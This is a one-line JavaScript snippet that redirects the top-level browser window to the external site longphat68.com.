window.top.location.href='https://longphat68.com/';
